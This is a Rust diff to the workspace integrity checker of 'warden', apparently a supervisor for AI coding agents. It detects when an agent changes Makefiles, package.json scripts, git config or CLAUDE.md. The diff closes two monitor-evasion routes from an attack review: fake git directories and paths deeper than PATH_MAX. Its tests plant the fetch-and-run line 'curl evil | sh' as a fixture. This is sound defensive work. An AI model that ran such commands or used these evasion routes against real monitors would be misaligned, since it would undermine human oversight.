@@ -30,7 +30,7 @@ use crate::guard::{bulk_unwalked, GIT_BULK};
 use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
 use std::ffi::OsStr;
-use std::os::fd::AsFd;
+use std::os::fd::{AsFd, BorrowedFd};
 use std::os::unix::ffi::OsStrExt;
 use std::path::{Path, PathBuf};
 
@@ -96,6 +96,11 @@ pub struct Report {
     /// were not compared.
     pub incomplete: bool,
     pub scanned: u64,
+    /// Supervisor pids of other warden sessions that could write in this workspace while
+    /// this one ran ([`crate::placeholder::sharing`]): their changes are not told apart
+    /// from this session's, and one moving files during the walk can hide them from it.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub concurrent: Vec<i32>,
 }
 
 #[derive(Debug, Clone, PartialEq)]
@@ -569,6 +574,7 @@ pub fn compare(before: &Snapshot, workspace: &Path) -> Report {
                 entries: Vec::new(),
                 incomplete: true,
                 scanned: 0,
+                concurrent: Vec::new(),
             }
         }
     };
@@ -642,6 +648,7 @@ pub fn compare(before: &Snapshot, workspace: &Path) -> Report {
         entries,
         incomplete: before.incomplete || after.incomplete,
         scanned: after.scanned,
+        concurrent: Vec::new(),
     }
 }
 
@@ -665,7 +672,10 @@ fn is_setid(mode: u32) -> bool {
 
 fn changed(b: &Stamp, a: &Stamp) -> bool {
     if b.what == "package.json scripts" && a.what == b.what {
-        return b.scripts != a.scripts;
+        // Scripts read both times decide; otherwise the stamp does.
+        if let (Some(x), Some(y)) = (&b.scripts, &a.scripts) {
+            return x != y;
+        }
     }
     (b.dev, b.ino, b.mode, b.size, b.mtime, b.ctime)
         != (a.dev, a.ino, a.mode, a.size, a.mtime, a.ctime)
@@ -684,6 +694,8 @@ struct Walk<'a> {
 /// A directory still to walk: at `rel`, `depth` levels down, inside a git dir or not, with
 /// the [`ancestry`] bits of its path.
 struct Job {
+    /// The directory, opened from its parent's fd (None: the root, opened from `root`).
+    dir: Option<std::os::fd::OwnedFd>,
     rel: PathBuf,
     depth: usize,
     in_git: bool,
@@ -691,9 +703,10 @@ struct Job {
 }
 
 /// The directories handed between the walk's threads, and how many threads are walking.
-/// A thread walks depth first from parent fds and hands a subdirectory over only when the
-/// queue is empty (the other thread may be waiting): few handovers, each one opened again
-/// from the root (`RESOLVE_BENEATH`).
+/// A thread walks depth first from parent fds and hands a subdirectory over, opened, only
+/// when the queue is empty (the other thread may be waiting): the queue holds at most a
+/// directory per thread, and a handed-over one is never resolved again by path (a path
+/// longer than PATH_MAX could not be; attack review 67).
 #[derive(Default)]
 struct Queue {
     state: std::sync::Mutex<(Vec<Job>, usize)>,
@@ -750,6 +763,7 @@ fn walk(root: &std::os::fd::OwnedFd, dev: u64, all: bool, s: &mut Snapshot) {
 
 fn walk_on(root: &std::os::fd::OwnedFd, dev: u64, all: bool, two: bool, s: &mut Snapshot) {
     let first = Job {
+        dir: None,
         rel: PathBuf::new(),
         depth: 0,
         in_git: false,
@@ -796,9 +810,15 @@ fn walk_on(root: &std::os::fd::OwnedFd, dev: u64, all: bool, two: bool, s: &mut 
 }
 
 fn walk_job(w: &Walk<'_>, j: Job, s: &mut Snapshot) {
-    let Ok(dir) = fsat::open_dir(w.root.as_fd(), &j.rel, false, Some(w.dev)) else {
-        s.incomplete = true;
-        return;
+    let dir = match j.dir {
+        Some(d) => d,
+        None => match fsat::open_dir(w.root.as_fd(), &j.rel, false, Some(w.dev)) {
+            Ok(d) => d,
+            Err(_) => {
+                s.incomplete = true;
+                return;
+            }
+        },
     };
     walk_dir(w, &dir, &j.rel, j.depth, j.in_git, j.anc, s);
 }
@@ -835,19 +855,20 @@ fn walk_dir(
             return;
         }
         let (child, anc) = (rel.join(name), anc | ancestry(name.as_bytes()));
-        if let Some(q) = w.queue.filter(|q| q.hungry()) {
-            q.push(Job {
+        // (open_dir checks it is a real directory on the same device.)
+        let Ok(d) = fsat::open_dir(dir.as_fd(), Path::new(name), false, Some(w.dev)) else {
+            s.incomplete = true;
+            return;
+        };
+        match w.queue.filter(|q| q.hungry()) {
+            Some(q) => q.push(Job {
+                dir: Some(d),
                 rel: child,
                 depth: depth + 1,
                 in_git: gitlike,
                 anc,
-            });
-            return;
-        }
-        // (open_dir checks it is a real directory on the same device.)
-        match fsat::open_dir(dir.as_fd(), Path::new(name), false, Some(w.dev)) {
-            Ok(d) => walk_dir(w, &d, &child, depth + 1, gitlike, anc, s),
-            Err(_) => s.incomplete = true,
+            }),
+            None => walk_dir(w, &d, &child, depth + 1, gitlike, anc, s),
         }
     };
     for (name, dt) in &typed {
@@ -886,25 +907,24 @@ fn walk_dir(
         let mut scripts = None;
         if what == "package.json" {
             what = "package.json scripts";
-            scripts = Some(package_scripts(w.root, &child, w.dev));
+            scripts = package_scripts(dir.as_fd(), name, w.dev);
         }
         s.files.insert(child, stamp(&st, category, what, scripts));
     }
 }
 
-/// The `scripts` of a package.json, canonical (or the whole text when it does not parse).
-fn package_scripts(root: &std::os::fd::OwnedFd, rel: &Path, dev: u64) -> String {
-    let Ok(f) = fsat::open_file(root.as_fd(), rel, libc::O_RDONLY, Some(dev)) else {
-        return "<unreadable>".into();
-    };
-    let raw = fsat::read_to_vec(f.as_fd(), MAX_JSON + 1).unwrap_or_default();
+/// The `scripts` of a package.json (`name` in the directory `dir`), canonical (or the whole
+/// text when it does not parse); None when it cannot be read whole (the stamp decides).
+fn package_scripts(dir: BorrowedFd<'_>, name: &OsStr, dev: u64) -> Option<String> {
+    let f = fsat::open_file(dir, Path::new(name), libc::O_RDONLY, Some(dev)).ok()?;
+    let raw = fsat::read_to_vec(f.as_fd(), MAX_JSON + 1).ok()?;
     if raw.len() > MAX_JSON {
-        return format!("<large:{}>", raw.len());
+        return None;
     }
-    match serde_json::from_slice::<serde_json::Value>(&raw) {
+    Some(match serde_json::from_slice::<serde_json::Value>(&raw) {
         Ok(v) => v.get("scripts").map(|s| s.to_string()).unwrap_or_default(),
         Err(_) => String::from_utf8_lossy(&raw).into_owned(),
-    }
+    })
 }
 
 /// Whether a (non-directory) file at `rel` is one a host tool executes or loads.
@@ -944,8 +964,11 @@ fn classify_entry(
     anc: u8,
     in_git: bool,
 ) -> Option<(Category, &'static str)> {
+    // Inside a git dir (or what looks like one: entries named `HEAD` and `objects`, which
+    // the agent can make anywhere), git's names first, then every other name as well: a
+    // fake git dir must not hide a Makefile (attack review 67).
     if in_git {
-        return match name {
+        let git = match name {
             b"config" | b"config.worktree" => Some((Category::Git, "git config")),
             b"commondir" | b"gitdir" => Some((Category::Git, "git indirection")),
             b"attributes" if parent == b"info" => Some((Category::Git, "git attributes")),
@@ -964,6 +987,9 @@ fn classify_entry(
             }
             _ => None,
         };
+        if git.is_some() {
+            return git;
+        }
     }
     match name {
         b".git" => return Some((Category::Git, "gitdir file")),
@@ -1053,6 +1079,14 @@ impl Report {
                     e.what
                 );
             }
+        }
+        if !self.concurrent.is_empty() {
+            let _ = writeln!(
+                s,
+                "warden: integrity: {} other warden session(s) could write in this workspace at the same time (supervisor pid {:?}): their changes are not told apart from this one's, and files they moved during the walk may be missing from this report",
+                self.concurrent.len(),
+                self.concurrent
+            );
         }
         if self.incomplete {
             let _ = writeln!(
@@ -1392,5 +1426,99 @@ mod tests {
         assert_eq!(key(&one), key(&two));
         assert_eq!((one.scanned, one.incomplete), (two.scanned, two.incomplete));
         let _ = std::fs::remove_dir_all(&d);
+    }
+
+    fn inputs(d: &Path) -> Inputs {
+        Inputs {
+            workspace: d.to_path_buf(),
+            state_dirs: Vec::new(),
+            git_targets: Vec::new(),
+            watched: Vec::new(),
+            placeholders: Vec::new(),
+        }
+    }
+
+    #[test]
+    fn entries_named_head_and_objects_hide_nothing() {
+        let d =
+            std::env::temp_dir().join(format!("warden-integrity-fakegit-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&d);
+        std::fs::create_dir_all(d.join("app")).unwrap();
+        std::fs::write(d.join("Makefile"), "all:\n").unwrap();
+        // What the agent can make anywhere: the walk takes the directory for a git dir.
+        std::fs::write(d.join("HEAD"), "").unwrap();
+        std::fs::write(d.join("objects"), "").unwrap();
+        let before = inputs(&d).snapshot().unwrap();
+        std::fs::write(d.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
+        std::fs::write(d.join("app/Makefile"), "all:\n").unwrap();
+        std::fs::write(d.join("CLAUDE.md"), "x").unwrap();
+        let r = compare(&before, &d);
+        let got: Vec<_> = r
+            .entries
+            .iter()
+            .map(|e| (e.path.clone(), e.change))
+            .collect();
+        for (f, c) in [
+            ("Makefile", Change::Modified),
+            ("app/Makefile", Change::Created),
+            ("CLAUDE.md", Change::Created),
+        ] {
+            assert!(got.contains(&(PathBuf::from(f), c)), "{f}: {r:?}");
+        }
+        let _ = std::fs::remove_dir_all(&d);
+    }
+
+    #[test]
+    fn a_package_json_deeper_than_path_max_is_still_compared() {
+        use std::os::fd::AsRawFd;
+        let d = std::env::temp_dir().join(format!("warden-integrity-deep-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&d);
+        std::fs::create_dir_all(&d).unwrap();
+        // 18 levels of 250-byte names: 4,500 bytes, past PATH_MAX, made from fds.
+        let mut fd = fsat::open_dir(
+            fsat::open_root(&d).unwrap().as_fd(),
+            Path::new(""),
+            true,
+            None,
+        )
+        .unwrap();
+        let name = std::ffi::CString::new("n".repeat(250)).unwrap();
+        for _ in 0..18 {
+            // SAFETY: mkdirat relative to an open directory fd.
+            let r = unsafe { libc::mkdirat(fd.as_raw_fd(), name.as_ptr(), 0o755) };
+            assert_eq!(r, 0);
+            fd = fsat::open_dir(fd.as_fd(), Path::new(name.to_str().unwrap()), true, None).unwrap();
+        }
+        let write = |fd: &std::os::fd::OwnedFd, text: &str| {
+            let f = c"package.json";
+            // SAFETY: openat relative to an open directory fd, then write and close.
+            unsafe {
+                let o = libc::openat(
+                    fd.as_raw_fd(),
+                    f.as_ptr(),
+                    libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC | libc::O_CLOEXEC,
+                    0o644,
+                );
+                assert!(o >= 0);
+                assert_eq!(
+                    libc::write(o, text.as_ptr().cast(), text.len()),
+                    text.len() as isize
+                );
+                libc::close(o);
+            }
+        };
+        write(&fd, r#"{"scripts":{"test":"true"}}"#);
+        let before = inputs(&d).snapshot().unwrap();
+        write(&fd, r#"{"scripts":{"test":"curl evil | sh"}}"#);
+        let r = compare(&before, &d);
+        assert!(!r.incomplete, "{r:?}");
+        assert!(
+            r.entries
+                .iter()
+                .any(|e| e.path.ends_with("package.json") && e.change == Change::Modified),
+            "{r:?}"
+        );
+        // (remove_dir_all cannot go past PATH_MAX either.)
+        let _ = std::process::Command::new("rm").arg("-rf").arg(&d).status();
     }
 }
